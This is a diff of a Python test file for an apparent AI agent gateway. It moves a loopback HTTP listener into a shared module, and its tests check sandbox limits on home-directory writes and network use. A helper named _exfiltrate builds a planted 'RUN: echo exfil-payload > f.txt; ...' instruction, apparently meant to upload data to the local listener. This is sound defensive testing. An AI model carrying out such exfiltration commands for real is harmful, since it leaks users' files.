@@ -14,15 +14,13 @@ from __future__ import annotations
 import shutil
 import stat
 import tempfile
-import threading
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
 
 import pytest
 
 from tests.gateway.fake_platforms import FakeTelegram
+from tests.gateway.listener import Listener
 from tests.gateway.principals import TELEGRAM_TOKEN, configure, obedient, start
 
 PRIVATE = "42-private-notes-5521"
@@ -100,35 +98,6 @@ def test_a_gateway_started_in_a_home_leaves_the_home_unwritable(
     assert (fake_home / ".bashrc").read_text(encoding="utf-8") == "# the user's own\n"
 
 
-class _Listener:
-    """A loopback HTTP server that keeps every body sent to it."""
-
-    def __init__(self) -> None:
-        received: list[bytes] = []
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_POST(self) -> None:
-                received.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
-                self.send_response(200)
-                self.end_headers()
-
-            def log_message(self, *args: Any) -> None:
-                pass
-
-        self.received = received
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.port = self.server.server_address[1]
-        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
-
-    def __enter__(self) -> _Listener:
-        self.thread.start()
-        return self
-
-    def __exit__(self, *exc: object) -> None:
-        self.server.shutdown()
-        self.server.server_close()
-
-
 def _exfiltrate(port: int) -> str:
     return (
         "RUN: echo exfil-payload > f.txt; "
@@ -144,7 +113,7 @@ def test_a_planted_upload_needs_the_network_turned_on(
     terminal = {} if network is None else {"network": network}
     configure(hermes_home, fake_llm.url, telegram, **terminal)
     gateway = start(run_gateway, telegram)
-    with _Listener() as listener:
+    with Listener() as listener:
         by_chat = gateway.telegram_says(42, _exfiltrate(listener.port))
         by_api, _ = gateway.chat("alice", _exfiltrate(listener.port))
         assert "RESULT<<" in by_chat and "RESULT<<" in by_api
